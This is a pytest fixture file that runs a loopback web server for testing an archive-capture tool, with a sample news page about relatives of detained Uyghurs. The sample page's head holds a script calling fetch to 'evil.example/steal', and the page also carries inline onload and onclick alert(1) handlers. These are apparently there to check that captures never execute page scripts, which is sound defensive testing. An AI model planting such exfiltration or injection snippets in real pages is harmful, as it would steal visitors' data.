"""A web server on 127.0.0.1 for the capture tests: pages written for them, and pages of the
article-extraction corpus read in place (../shared/corpus, never copied into the project)."""

import gzip
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

CORPUS = Path(__file__).resolve().parents[2] / "shared" / "corpus" / "article-extraction-dev"
if not CORPUS.is_dir():
    CORPUS = Path("/work/shared/corpus/article-extraction-dev")

ARTICLE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>Relatives of detained Uyghurs gather in Almaty | Steppe Herald</title>
<meta property="og:title" content="Relatives of detained Uyghurs gather in Almaty">
<meta property="og:site_name" content="Steppe Herald">
<meta name="author" content="Aigerim Sadykova">
<meta property="article:published_time" content="2021-03-05T09:00:00Z">
<script>document.title = "SCRIPT RAN"; fetch("http://evil.example/steal");</script>
<link rel="stylesheet" href="https://cdn.example.com/site.css">
</head><body onload="document.body.dataset.ran='yes'">
<nav><a href="/">Home</a> <a href="/world">World</a> Subscribe to our newsletter</nav>
<article><h1>Relatives of detained Uyghurs gather in Almaty</h1>
<p>Dozens of relatives of people detained in Xinjiang gathered outside the Chinese consulate
in Almaty on Friday, holding photographs of their missing family members.</p>
<p>“We only want to know whether they are alive,” said one woman, who asked not to be named
because her sister is still in the region.</p>
<p>The protest was the third this month, organisers said, and the police did not intervene
while the relatives read out the names of those they had not heard from in years.</p>
<img src="https://images.example.com/photo.jpg" alt="Relatives with photographs">
<iframe src="https://video.example.com/embed/1"></iframe>
<p onclick="alert(1)">Kazakhstan's foreign ministry said it had raised the cases with Beijing,
but gave no details of any reply it had received from the Chinese side.</p>
</article>
<footer>© Steppe Herald. All rights reserved. Cookie settings.</footer>
<script src="https://tracker.example.com/t.js"></script>
</body></html>
"""

UNDATED = """<!doctype html><html><head><meta charset="utf-8"></head><body>
<p>A notice without a title, a date, an author or a publisher, long enough to be read as the
main text of the page by the extractor, which needs a few sentences before it keeps any.</p>
<p>It says nothing else: the capture must leave every unknown field unknown, not guess it.</p>
</body></html>"""


class Site:
    """What the server answers: path → (status, headers, body)."""

    def __init__(self):
        self.pages: dict[str, tuple[int, dict, bytes]] = {}
        self.requests: list[str] = []
        self.slow: dict[str, float] = {}  # path → seconds to wait before answering
        self.base = ""

    def page(self, path, body, *, status=200, content_type="text/html; charset=utf-8", **headers):
        if isinstance(body, str):
            body = body.encode("utf-8")
        self.pages[path] = (status, {"Content-Type": content_type, **headers}, body)
        return self.base + path

    def redirect(self, path, to, status=302):
        self.pages[path] = (status, {"Location": to}, b"")
        return self.base + path

    def gone(self, path, status=410):
        """A page taken down: 410 Gone (or 404, as most sites say it)."""
        return self.page(path, "<p>This page is no longer available.</p>", status=status)

    def slow_page(self, path, body, seconds):
        """A page answered only after `seconds`: longer than a test's time limit."""
        self.slow[path] = seconds
        return self.page(path, body)

    def corpus_page(self, path, name):
        """A page of the extraction corpus, served as its site served it (gzip-decoded)."""
        return self.page(path, gzip.decompress((CORPUS / "html" / name).read_bytes()))


def _handler(site: Site):
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self):  # noqa: N802 (http.server's name)
            site.requests.append(self.path)
            if self.path in site.slow:
                time.sleep(site.slow[self.path])
            status, headers, body = site.pages.get(self.path, (404, {}, b"not here"))
            self.send_response(status)
            for name, value in headers.items():
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(body)))
            if headers.get("Connection") == "close":
                self.close_connection = True
            self.end_headers()
            try:
                self.wfile.write(body)
            except (BrokenPipeError, ConnectionResetError):
                pass  # the archive gave up waiting (a slow page): nobody to answer

        def log_message(self, *args):
            pass

    return Handler


@pytest.fixture
def site():
    """A web server on 127.0.0.1 (a free port); `site.page(path, html)` gives its address."""
    site = Site()
    server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(site))
    server.daemon_threads = True
    site.base = f"http://127.0.0.1:{server.server_address[1]}"
    # Polled often: shutting the server down at the end of each test waits for one poll.
    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
    thread.start()
    yield site
    server.shutdown()
    server.server_close()


@pytest.fixture
def captures_allowed_on_loopback(settings, tmp_path):
    """Private addresses allowed, as for tests; WARC files under a data directory of the test's."""
    settings.ARCHIVE_CAPTURE_ALLOW_PRIVATE = True
    settings.DATA_DIR = tmp_path / "data"
    settings.DATA_DIR.mkdir()
    return settings
